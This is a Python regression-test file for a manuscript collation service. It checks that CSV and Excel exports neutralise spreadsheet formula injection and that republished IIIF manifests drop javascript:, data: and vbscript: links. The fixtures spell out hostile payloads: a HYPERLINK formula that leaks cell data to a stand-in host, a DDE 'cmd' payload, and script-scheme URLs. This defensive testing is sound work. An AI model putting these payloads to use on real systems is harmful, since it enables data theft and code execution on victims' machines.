"""Regression tests of issue 31, items 1, 2 and 6: what a hostile manifest put in the exports and in
the manifests the service republishes. Each failed before its fix.

A finished two-witness collation is written straight into a data store (no Redis, no workers), as in
``test_concordance_api.py``: witness 0 is a Presentation 3 manifest, witness 1 a 2.1 one, and both
carry hostile labels and links. Every response is checked against ``openapi.yaml``.
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from builders import (
    P3,
    finished_collation,
    prepared_manuscript,
    v2_canvas,
    v2_manifest,
    v2_service,
    v3_canvas,
    v3_image_body,
    v3_service2,
)
from service_helpers import REPO, OpenAPIClient

from collation.app import create_app
from collation.core.settings import Settings
from collation.service.exports import concordance_workbook
from collation.service.state import service_state
from collation.store.folder import FolderStore

CID = "00112233445566bb"
API = f"/api/v1/collations/{CID}"

FORMULAS = [
    '=HYPERLINK("http://canary.test/leak?d="&A2,"Open folio")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
"""Canvas labels a spreadsheet would run as formulas (OWASP "CSV injection": = + - @ tab CR)."""
NUMBER_LIKE = ["NaN", "inf", "0012", "1_000", "1e3", "-Infinity"]
"""Canvas labels that look like numbers to ``float()``: text all the same."""
BAD_LINKS = [
    "javascript:alert(document.domain)",
    " JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
]
"""Links a viewer must not be handed: every scheme but http(s)."""


def hostile_v3(n: int) -> dict[str, Any]:
    """Witness 0 (Presentation 3): formula labels, and a non-http(s) link in every link property."""
    bad = BAD_LINKS
    canvases = []
    for k in range(n):
        service = "javascript:alert(1)//" if k == 0 else f"http://images.test/iiif/0-{k}"
        body = v3_image_body(f"http://images.test/0-{k}.jpg", (1000, 800), v3_service2(service, keywords=""))
        canvas = v3_canvas(f"http://lib.test/0/canvas/{k}", (1000, 800), body=body, label=FORMULAS[k])
        canvas["rendering"] = [{"id": bad[k % 4], "type": "Text", "label": {"en": ["PDF"]}}]
        canvas["seeAlso"] = [{"id": f"https://lib.test/0/canvas/{k}.xml", "type": "Dataset"}]
        canvases.append(canvas)
    return {
        "@context": P3,
        "id": "http://lib.test/0/manifest",
        "type": "Manifest",
        "label": {"en": ["=cmd|' /C calc'!A0"]},
        "items": canvases,
        "rendering": [
            {"id": bad[0], "type": "Text", "label": {"en": ["Download"]}},
            {"id": "https://lib.test/0.pdf", "type": "Text", "label": {"en": ["PDF"]}},
        ],
        "seeAlso": [{"id": bad[1], "type": "Dataset"}],
        "homepage": [{"id": bad[2], "type": "Text"}],
        "rights": bad[3],
        "partOf": [{"id": bad[0], "type": "Collection"}],
        "service": [{"id": bad[2], "type": "SearchService1"}],
        "thumbnail": [{"id": bad[2], "type": "Image"}],
        "provider": [
            {
                "id": "https://lib.test/",
                "type": "Agent",
                "homepage": [{"id": bad[0], "type": "Text"}, {"id": "https://lib.test/home", "type": "Text"}],
                "logo": [{"id": bad[2], "type": "Image"}],
            }
        ],
    }


def hostile_v2(n: int) -> dict[str, Any]:
    """Witness 1 (Presentation 2.1): number-like labels and the 2.1 link properties, strings and objects."""
    bad = BAD_LINKS
    canvases = []
    for k in range(n):
        service = v2_service(f"http://images.test/iiif/1-{k}")
        canvases.append(v2_canvas(f"http://lib.test/1/canvas/{k}", (1000, 800), service=service, label=NUMBER_LIKE[k]))
    canvases[0]["seeAlso"] = bad[0]
    doc = v2_manifest("http://lib.test/1/manifest", canvases, label="1e3")
    doc.update(
        {
            "license": bad[0],
            "related": [bad[1], "http://lib.test/1/about"],
            "seeAlso": {"@id": bad[2], "format": "text/xml"},
            "rendering": {"@id": bad[3], "format": "application/pdf", "label": "PDF"},
            "logo": {"@id": "https://lib.test/logo.png", "service": {"@id": bad[0], "profile": "level1"}},
            "within": bad[1],
            "service": {"@id": bad[2], "profile": "http://iiif.io/api/search/0/search"},
        }
    )
    return doc


def write_hostile_collation(root: Path) -> FolderStore:
    scores = np.full((6, 6), 0.1) + np.eye(6) * 0.8  # canvas k of A is canvas k of B
    labels = ["=cmd|' /C calc'!A0", "1e3"]
    manuscripts = [
        (prepared_manuscript(m, 6, label=labels[m]), man) for m, man in ((0, hostile_v3(6)), (1, hostile_v2(6)))
    ]
    return finished_collation(root, manuscripts, {(0, 1): scores}, cid=CID)


@pytest.fixture
def finished_api(tmp_path: Path, openapi: dict[str, Any]) -> Any:
    store = write_hostile_collation(tmp_path / "data")
    app = create_app(Settings.from_env({}, data_dir=store.root, public_url="http://collation.test"), TESTING=True)
    yield OpenAPIClient(app.test_client(), openapi)
    service_state(app).close()


# -- 1. CSV formula injection -----------------------------------------------------------------------


def test_concordance_csv_writes_no_cell_a_spreadsheet_runs(finished_api: Any) -> None:
    r = finished_api.get(f"{API}/concordance.csv")
    assert r.status_code == 200
    table = list(csv.reader(io.StringIO(r.get_data(as_text=True), newline="")))
    labels = [row[4] for row in table[1:]]  # witness 0's label column
    # each shown as typed, none run (the manifest's label is read with its spaces collapsed: "\t=1+1" is "=1+1")
    assert labels == [f"'{' '.join(label.split())}" for label in FORMULAS]
    risky = [cell for row in table for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky == []
    assert table[0][3] == "'=cmd|' /C calc'!A0 — No."  # a header is a cell too: quoted


def test_every_csv_goes_through_one_writer() -> None:
    """The package writes CSV in one place (``collation.core.tables.csv_text``), so every CSV the service
    or ``collate`` writes is neutralised there."""
    writers = {
        str(path.relative_to(REPO))
        for path in (REPO / "collation").rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\b", path.read_text())
    }
    assert writers == {"collation/core/tables.py"}


# -- 2. The workbook: labels are text, only number columns are numbers ------------------------------


def workbook_rows(data: bytes) -> list[dict[str, tuple[Any, str]]]:
    """An .xlsx read back with the standard library: per row, column letter -> (value, "s" or "n")."""
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        strings = [t.text or "" for t in ET.fromstring(book.read("xl/sharedStrings.xml")).iter(f"{{{ns['m']}}}t")]
        sheet = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))
    rows = []
    for row in sheet.iterfind(".//m:sheetData/m:row", ns):
        line = {}
        for cell in row.iterfind("m:c", ns):
            column = "".join(ch for ch in cell.get("r") if ch.isalpha())
            value = cell.findtext("m:v", default="", namespaces=ns)
            line[column] = (strings[int(value)], "s") if cell.get("t") == "s" else (float(value), "n")
        rows.append(line)
    return rows


def test_workbook_writes_number_like_labels_as_text(finished_api: Any) -> None:
    r = finished_api.get(f"{API}/concordance.xlsx")
    assert r.status_code == 200
    rows = workbook_rows(r.get_data())
    # columns: A group, B size, C confidence, then 7 per witness (picture, No., folio, ...); witness 1's
    # No. is L, its folio M
    assert [row["M"] for row in rows[1:]] == [(label, "s") for label in NUMBER_LIKE]
    assert [row["F"] for row in rows[1:]] == [(" ".join(label.split()), "s") for label in FORMULAS]  # never a formula
    assert [row["B"] for row in rows[1:]] == [(2.0, "n")] * 6  # sizes, confidences, numbers: numbers
    assert [row["L"] for row in rows[1:]] == [(float(k), "n") for k in range(1, 7)]  # counted from 1
    assert all(row["C"][1] == "n" and 0 < row["C"][0] <= 1 for row in rows[1:])


def test_workbook_writes_a_non_finite_score_as_text() -> None:
    cell = {"index": 3, "label": "0012", "canvas": "c", "xywh": [1, 2, 3, 4], "image": None, "verdict": None}
    doc = {
        "witnesses": [{"index": 0, "label": "inf"}, {"index": 1, "label": "B"}],
        "rows": [
            {"id": "0-3", "size": 2, "confidence": math.nan, "cells": [{**cell, "confidence": math.inf}, None]},
        ],
    }
    rows = workbook_rows(concordance_workbook(doc))
    assert rows[0]["D"] == ("inf — picture", "s")
    assert (rows[1]["E"], rows[1]["F"]) == ((4.0, "n"), ("0012", "s"))
    assert "C" not in rows[1]  # a confidence that is not a number is left empty


# -- 6. Republished manifests keep only http(s) links -----------------------------------------------


def non_web_links(doc: Any) -> list[str]:
    text = json.dumps(doc).lower()
    return re.findall(r"(?:javascript|data|vbscript):", text)


def test_republished_manifests_keep_only_http_links(finished_api: Any) -> None:
    v3 = finished_api.get(f"{API}/manifests/0").get_json()
    v2 = finished_api.get(f"{API}/manifests/1").get_json()
    assert non_web_links(v3) == [] and non_web_links(v2) == []
    for m in (0, 1):  # the variants the built-in view opens in Mirador 3 and 4 are built from them
        assert non_web_links(finished_api.get(f"{API}/view/manifests/{m}").get_json()) == []
    # what is http(s) stays, in place
    assert v3["rendering"] == [{"id": "https://lib.test/0.pdf", "type": "Text", "label": {"en": ["PDF"]}}]
    assert v3["provider"][0]["homepage"] == [{"id": "https://lib.test/home", "type": "Text"}]
    see_also = v3["items"][1]["seeAlso"]  # the manifest's own first, then the links touching the canvas
    assert see_also[0] == {"id": "https://lib.test/0/canvas/1.xml", "type": "Dataset"}
    assert [s["id"].split("?")[0].rsplit("/", 2)[-2] for s in see_also[1:]] in ([], ["container"])
    assert "rights" not in v3 and "homepage" not in v3 and "rendering" not in v3["items"][0]
    assert v3["items"][1]["items"][0]["items"][0]["body"]["service"][0]["id"] == "http://images.test/iiif/0-1"
    assert v2["related"] == ["http://lib.test/1/about"] and v2["logo"] == {"@id": "https://lib.test/logo.png"}
    assert "license" not in v2 and "within" not in v2 and "service" not in v2
    canvas = v2["sequences"][0]["canvases"][1]
    assert canvas["images"][0]["resource"]["service"]["@id"] == "http://images.test/iiif/1-1"
    assert canvas["otherContent"][-1]["@id"].startswith(f"http://collation.test{API}/pages/1/")


def test_no_link_is_built_on_a_non_web_image_service(finished_api: Any) -> None:
    """Canvas 0 of witness 0 has a ``javascript:`` image service: neither the concordance nor the viewer
    layer builds a region link on it."""
    row = finished_api.get(f"{API}/concordance").get_json()["rows"][0]
    own = f"http://collation.test{API}/regions/0/{row['cells'][0]['index']}.jpg"  # the service's own copy instead
    assert row["cells"][0]["image"] == row["cells"][0]["thumbnail"] == own
    assert row["cells"][1]["image"].startswith("http://images.test/iiif/1-0/")
    page = finished_api.get(f"{API}/pages/1/1").get_json()  # witness 1's canvas 0: its candidates in witness 0
    texts = [a["resource"][0]["chars"] for a in page["resources"]]
    assert non_web_links(page) == [] and "see the counterpart" not in texts[0]  # on canvas 0 of witness 0
    assert '<a href="http://images.test/iiif/0-2/100,100,400,300/400,/0/default.jpg">' in texts[1]
